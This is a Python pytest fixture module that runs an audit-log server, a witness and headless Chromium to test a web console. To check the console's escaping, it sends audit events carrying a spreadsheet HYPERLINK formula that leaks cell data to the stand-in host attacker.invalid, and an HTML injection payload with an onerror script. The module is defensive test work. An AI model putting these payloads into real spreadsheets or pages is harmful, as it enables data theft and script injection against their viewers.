"""The console in a real headless Chromium against a real ``otel-audit serve``.

The ``console`` fixture runs ``otel-audit serve`` (receiver, sealer and query API with
the console) on free ports against the session's Elasticsearch, sends
checkouts from the demo services through the real OTel SDK exporters, and waits until
every event is stored and sealed (``test_tamper.py`` runs last and edits some of them).
The server runs a scheduled verify every few seconds and sends each chain's newest
checkpoint to a real witness (``otel-audit witness serve``), so the chain page has a last
run and stored cosignatures to show.
Both it and the browser are package-scoped (``__init__.py`` makes this directory a
package), so Playwright's event loop and the server end with this directory's tests.
``page`` is a fresh browser context in Debian's Chromium (``/usr/bin/chromium``, or
``OTEL_AUDIT_CHROMIUM``) driven by Playwright; ``make browser-deps`` installs both.
With ``OTEL_AUDIT_SCREENSHOTS=DIR`` the tests save a screenshot of each page there
(``make console-screenshots`` writes them to docs/images/).
"""

from __future__ import annotations

import json
import os
import subprocess
import sys
import time
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import pytest
from elasticsearch import Elasticsearch

from demo.run import send_traffic
from indexer.integrity.blocks import holding_query
from indexer.local_es.state import wipe_project_state
from indexer.query.auth import hash_token
from indexer.templates import install_templates
from otel_audit.integrity.keys import generate_private_key, write_key_pair
from tests.support.child_process import answers_200, log_tail, stop_child
from tests.support.collector_build import free_port

CHROMIUM = os.environ.get("OTEL_AUDIT_CHROMIUM", "/usr/bin/chromium")
# What works in a container without a display or a user namespace.
CHROMIUM_ARGS = [
    "--headless",
    "--no-sandbox",
    "--disable-gpu",
    "--disable-quic",
    "--no-first-run",
    "--disable-background-networking",
    "--disable-component-update",
    "--disable-sync",
]
TOKEN = "oat_console-browser-test-token-0123456789"
SUBJECT = "auditor-anna"
STATS_TOKEN = "oat_console-stats-only-token-0123456789"
FORMULA = '=HYPERLINK("http://attacker.invalid/?"&A1,"click")'
CHAIN = "console-test"
MARKUP = '<img src=x onerror="window.pwned=1"><b id=injected>bold</b>'


@dataclass
class Console:
    """A running ``otel-audit serve`` with the console, and what was sent to it."""

    base: str
    es: Elasticsearch
    event_ids: list[str]
    trace_ids: list[str]
    formula_event_id: str
    public_key: Path
    state: Path
    witness_vkey: str
    views: list[str] = field(default_factory=list)

    def url(self, path: str) -> str:
        return self.base + path


WITNESS_NAME = "witness.example/console"


@dataclass
class _Witness:
    proc: subprocess.Popen[bytes]
    url: str
    vkey: str


def _start_witness(tmp: Path, chain: str, log_public_key: Path) -> _Witness:
    """``otel-audit witness serve`` for ``chain``; it prints its URL and vkey first."""
    keys = write_key_pair(generate_private_key(), tmp / "witness-keys", force=True)
    log = (tmp / "witness.log").open("ab")
    proc = subprocess.Popen(
        [sys.executable, "-m", "otel_audit.cli", "witness", "serve",
         "--key", str(keys.private_key_path), "--name", WITNESS_NAME,
         "--log", f"{chain}={log_public_key}", "--state", str(tmp / "witness-state.json"),
         "--listen", f"127.0.0.1:{free_port()}"],
        stdout=subprocess.PIPE,
        stderr=log,
    )  # fmt: skip
    log.close()
    assert proc.stdout is not None
    line = proc.stdout.readline()
    if not line:
        stop_child(proc, 10)
        raise AssertionError("witness did not start: " + log_tail(tmp / "witness.log", 20))
    first = json.loads(line)
    return _Witness(proc, first["listening"], first["vkey"])


def _config(tmp: Path, es_url: str, ports: dict[str, int], witness: _Witness) -> Path:
    keys = tmp / "keys"  # written once by the fixture: the witness knows its public key
    text = f"""
grpc_endpoint: 127.0.0.1:{ports["grpc"]}
http_endpoint: 127.0.0.1:{ports["http"]}
query_api_endpoint: 127.0.0.1:{ports["query"]}
es_url: {es_url}
spool_dir: {tmp / "spool"}
integrity:
  key_file: {keys / "signing-key.pem"}
  generate_dev_key: false
  state_dir: {tmp / "integrity"}
  chain_id: {CHAIN}
  block_max_interval_ms: 200
  block_max_events: 8
query:
  tokens:
    - {{subject: {SUBJECT}, sha256: {hash_token(TOKEN)}, roles: [reader]}}
    - {{subject: dashboards, sha256: {hash_token(STATS_TOKEN)}, roles: [stats]}}
console:
  public_keys: [{keys / "signing-key.pub.pem"}]
watch:
  enabled: true
  first_delay_s: 1
  interval_s: 4
  full_every: 1  # every run reads every event, so the page's count covers the test's events
  witness_urls: [{witness.url}]
  witness_keys: ["{witness.vkey}"]
"""
    path = tmp / "serve.yaml"
    path.write_text(text, encoding="utf-8")
    return path


def _send_hostile_events(grpc: str) -> str:
    """Events whose values are a spreadsheet formula (resource id) and HTML (actor name,
    reason), through the real SDK; the formula event's id."""
    from opentelemetry.exporter.otlp.proto.grpc._log_exporter import OTLPLogExporter

    from otel_audit import AuditLogger, _logs_compat

    provider = _logs_compat.sdk_logger_provider({"service.name": "billing"})
    provider.add_log_record_processor(
        _logs_compat.batch_processor(OTLPLogExporter(endpoint=grpc, insecure=True))
    )
    event_id = AuditLogger(provider).emit(
        action="invoice.export",
        category="data_access",
        outcome="success",
        actor_id="mallory",
        actor_type="user",
        resource_type="invoice",
        resource_id=FORMULA,
        actor_name=MARKUP,
        reason=MARKUP,
    )
    provider.force_flush()
    provider.shutdown()
    return str(event_id)


def _wait_sealed(es: Elasticsearch, ids: list[str], timeout_s: float = 60.0) -> None:
    deadline = time.monotonic() + timeout_s
    missing = set(ids)
    while missing and time.monotonic() < deadline:
        es.indices.refresh(index="audit-*")
        hits = es.search(
            index="audit-blocks",
            query=holding_query(sorted(missing)),
            source_includes=["event_ids"],
            size=1000,
            ignore_unavailable=True,
        )["hits"]["hits"]
        for hit in hits:
            missing -= set(hit["_source"]["event_ids"])
        if missing:
            time.sleep(0.3)
    assert not missing, f"{len(missing)} events never sealed"


def _start_serve(
    tmp: Path, es_url: str, witness: _Witness
) -> tuple[subprocess.Popen[bytes], dict[str, int]]:
    """``otel-audit serve`` on free ports; picked ports can be taken by another process
    before the server binds them, so a start that fails on a port in use is retried."""
    log = tmp / "serve.log"
    env = {**os.environ, "OTEL_AUDIT_ES_URL": es_url}
    for _attempt in range(3):
        ports = {name: free_port() for name in ("grpc", "http", "query")}
        config = _config(tmp, es_url, ports, witness)
        proc = subprocess.Popen(
            [sys.executable, "-m", "otel_audit.cli", "serve", "--config", str(config)],
            env=env,
            stdout=open(log, "ab"),  # noqa: SIM115 - lives with the child
            stderr=subprocess.STDOUT,
        )
        deadline = time.monotonic() + 60
        while not answers_200(f"http://127.0.0.1:{ports['http']}/readyz", 2):
            if proc.poll() is not None:
                break
            assert time.monotonic() < deadline, log_tail(log, 40)
            time.sleep(0.3)
        else:
            return proc, ports
        if "address already in use" not in log_tail(log, 40):
            raise AssertionError(log_tail(log, 40))
    raise AssertionError("no free ports after 3 attempts: " + log_tail(log, 10))


@pytest.fixture(scope="package")
def console(es_url: str, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Console]:
    tmp = tmp_path_factory.mktemp("console")
    es = Elasticsearch(es_url, request_timeout=30)
    wipe_project_state(es)
    install_templates(es)
    keys = write_key_pair(generate_private_key(), tmp / "keys", force=True)
    witness = _start_witness(tmp, CHAIN, keys.public_key_path)
    try:
        proc, ports = _start_serve(tmp, es_url, witness)
    except BaseException:
        stop_child(witness.proc, 10)
        raise
    try:
        grpc = f"127.0.0.1:{ports['grpc']}"
        report = send_traffic(grpc, checkouts=12, with_violations=False)
        formula_id = _send_hostile_events(grpc)
        _wait_sealed(es, [*report.event_ids, formula_id])
        yield Console(
            base=f"http://127.0.0.1:{ports['query']}",
            es=es,
            event_ids=report.event_ids,
            trace_ids=report.trace_ids,
            formula_event_id=formula_id,
            public_key=tmp / "keys" / "signing-key.pub.pem",
            state=tmp,
            witness_vkey=witness.vkey,
        )
    finally:
        stop_child(proc, 30)
        stop_child(witness.proc, 10)
        es.close()


@pytest.fixture(scope="package")
def browser() -> Iterator[Any]:
    from playwright.sync_api import sync_playwright

    assert Path(CHROMIUM).exists(), f"{CHROMIUM} missing: run `make browser-deps`"
    with sync_playwright() as pw:
        b = pw.chromium.launch(executable_path=CHROMIUM, args=CHROMIUM_ARGS, headless=True)
        try:
            yield b
        finally:
            b.close()


@pytest.fixture
def page(browser: Any) -> Iterator[Any]:
    context = browser.new_context(accept_downloads=True, viewport={"width": 1360, "height": 900})
    pg = context.new_page()
    pg.set_default_timeout(15_000)
    errors: list[str] = []
    pg.on("pageerror", lambda exc: errors.append(str(exc)))
    try:
        yield pg
    finally:
        context.close()
    assert not errors, f"JavaScript errors on the page: {errors}"


def screenshot(page: Any, name: str) -> None:
    """Save a full-page screenshot as DIR/console-NAME.png when OTEL_AUDIT_SCREENSHOTS=DIR."""
    out = os.environ.get("OTEL_AUDIT_SCREENSHOTS")
    if out:
        Path(out).mkdir(parents=True, exist_ok=True)
        page.screenshot(path=str(Path(out) / f"console-{name}.png"), full_page=True)


def wait_ready(page: Any, name: str) -> None:
    """Until the console says the page ``name`` finished loading (or failed)."""
    page.wait_for_selector(f"main[data-state=ready][data-page={name}], main[data-state=error]")
    if page.get_attribute("main", "data-state") == "error":
        raise AssertionError(page.inner_text("main"))


def login(page: Any, console: Console, path: str = "/console/events", token: str = TOKEN) -> None:
    page.goto(console.url(path))
    page.wait_for_selector("#token")
    page.fill("#token", token)
    page.click("#login")
